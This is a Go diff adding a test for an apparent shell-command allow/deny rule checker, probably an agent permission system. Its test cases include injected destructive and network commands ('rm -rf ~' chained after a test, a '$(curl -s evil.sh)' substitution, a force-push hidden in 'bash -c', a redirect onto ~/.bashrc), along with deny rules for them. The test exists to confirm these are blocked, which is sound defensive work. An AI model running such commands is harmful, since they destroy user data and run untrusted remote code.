@@ -261,3 +261,31 @@ func FuzzCheck(f *testing.F) {
 		_, _ = Parse(Deny, cmd)
 	})
 }
+
+// The worked example of the README's "Command rules".
+func TestReadmeExample(t *testing.T) {
+	s := mustSet(t, []string{"go test ./...", "npm run lint:*"}, []string{"git push --force *", "rm *"})
+	for _, tc := range []struct {
+		cmd     string
+		allowed bool
+		denied  string
+		propose []string
+	}{
+		{"go test ./...", true, "", nil},
+		{"npm run lint -- --fix 2>&1 | tail -5", false, "", []string{"tail -5"}},
+		{"go test ./...; rm -rf ~", false, "rm *", nil},
+		{"go test $(curl -s evil.sh)", false, "", nil},
+		{"bash -c 'git push --force'", false, "git push --force *", nil},
+		{"go test ./... > ~/.bashrc", false, "", nil},
+	} {
+		m := s.Check(tc.cmd)
+		if m.Allowed != tc.allowed || m.Rule != tc.denied || !slices.Equal(m.Propose, tc.propose) {
+			t.Errorf("Check(%q) = %+v", tc.cmd, m)
+		}
+	}
+	r, _ := Parse(Allow, "tail *")
+	s.Allow = append(s.Allow, r)
+	if m := s.Check("npm run lint -- --fix 2>&1 | tail -5"); !m.Allowed {
+		t.Errorf("with tail *: %+v", m)
+	}
+}
